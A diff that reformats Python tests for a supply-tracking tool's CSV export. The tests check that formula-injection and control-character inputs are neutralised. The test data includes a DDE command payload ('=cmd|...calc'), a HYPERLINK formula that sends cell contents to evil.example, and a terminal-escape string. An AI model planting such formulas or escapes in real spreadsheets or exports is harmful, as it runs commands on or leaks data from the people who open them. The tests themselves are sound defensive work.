@@ -15,8 +15,15 @@ from tests.test_passes_cli import cli_post, run  # noqa: F401  (cli_post is a fi
 from tests.test_supply_cli import stocked  # noqa: F401
 from tests.test_supply_export import deliver_one, read_back
 
-FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"点这里")', "@SUM(A1)", "-2+3", "+1",
-            "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
+    "@SUM(A1)",
+    "-2+3",
+    "+1",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def is_number(cell: str) -> bool:
@@ -35,17 +42,26 @@ def written(rows: list[list[object]]) -> str:
 
 def test_a_formula_gets_a_leading_quote_and_a_number_stays_a_number():
     assert [spreadsheet_cell(text) for text in FORMULAS[:4]] == [
-        "'=cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")", "'@SUM(A1)", "'-2+3"]
+        "'=cmd|' /C calc'!A0",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"点这里")',
+        "'@SUM(A1)",
+        "'-2+3",
+    ]
     assert spreadsheet_cell("\t=1+1") == "'␉=1+1" and spreadsheet_cell("\r=1+1") == "'␍=1+1"
     assert spreadsheet_cell(-2) == -2 and spreadsheet_cell(3.5) == 3.5 and spreadsheet_cell(None) == ""
     assert spreadsheet_cell("-2") == "'-2"  # text that looks like a number is still text from the data
     assert spreadsheet_cell("\x1b[31m大米\x07") == "␛[31m大米␇" and spreadsheet_cell("张三") == "张三"
-    assert written([[-2, "-2+3", "a,b", 'say "hi"']]) == "-2,'-2+3,\"a,b\",\"say \"\"hi\"\"\"\r\n"
+    assert written([[-2, "-2+3", "a,b", 'say "hi"']]) == '-2,\'-2+3,"a,b","say ""hi"""\r\n'
 
 
 @settings(max_examples=400, deadline=None)
-@given(st.lists(st.one_of(st.text(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)),
-                min_size=1, max_size=6))
+@given(
+    st.lists(
+        st.one_of(st.text(), st.integers(), st.floats(allow_nan=False, allow_infinity=False)),
+        min_size=1,
+        max_size=6,
+    )
+)
 def test_any_cell_reads_back_as_one_safe_cell(cells):
     text = written([cells])
     assert not set(text[:-2]) & CONTROLS  # the row's own CRLF is the only control written
@@ -62,20 +78,25 @@ def test_any_cell_reads_back_as_one_safe_cell(cells):
 
 def test_supply_exports_neutralise_formulas_and_keep_negative_numbers(stocked, db_path, capsys, tmp_path):
     deliver_one(capsys, stocked)
-    edit_as_another_tool(db_path, [
-        ("UPDATE supply_order SET note = ?", (FORMULAS[0],)),
-        ("UPDATE supply_item SET name = ? WHERE name = '大米'", (FORMULAS[1],)),
-        ("UPDATE household SET head_name = ?", (FORMULAS[2],)),
-        ("UPDATE handoff SET party = ? WHERE party = '张阿姨'", (FORMULAS[3],)),
-        ("UPDATE handoff SET reason = ? WHERE reason = ''", ("\x1b]0;pwned\x07\x9b31m\u202e",)),
-    ])
+    edit_as_another_tool(
+        db_path,
+        [
+            ("UPDATE supply_order SET note = ?", (FORMULAS[0],)),
+            ("UPDATE supply_item SET name = ? WHERE name = '大米'", (FORMULAS[1],)),
+            ("UPDATE household SET head_name = ?", (FORMULAS[2],)),
+            ("UPDATE handoff SET party = ? WHERE party = '张阿姨'", (FORMULAS[3],)),
+            ("UPDATE handoff SET reason = ? WHERE reason = ''", ("\x1b]0;pwned\x07\x9b31m\u202e",)),
+        ],
+    )
     for kind in ("handoffs", "orders", "stock"):
         out = tmp_path / f"{kind}.csv"
         assert run(capsys, "export", kind, "--out", str(out), "--db", stocked["db"])[0] == 0
         raw = out.read_bytes().decode("utf-8-sig")
         assert not set(raw.replace("\r\n", "")) & CONTROLS, kind
         rows = read_back(out)
-        assert all(not cell.startswith(FORMULA_STARTS) or is_number(cell) for row in rows for cell in row), kind
+        assert all(not cell.startswith(FORMULA_STARTS) or is_number(cell) for row in rows for cell in row), (
+            kind
+        )
         if kind == "handoffs":
             header = rows[0]
             deltas = [row[header.index("库存变动")] for row in rows[1:]]
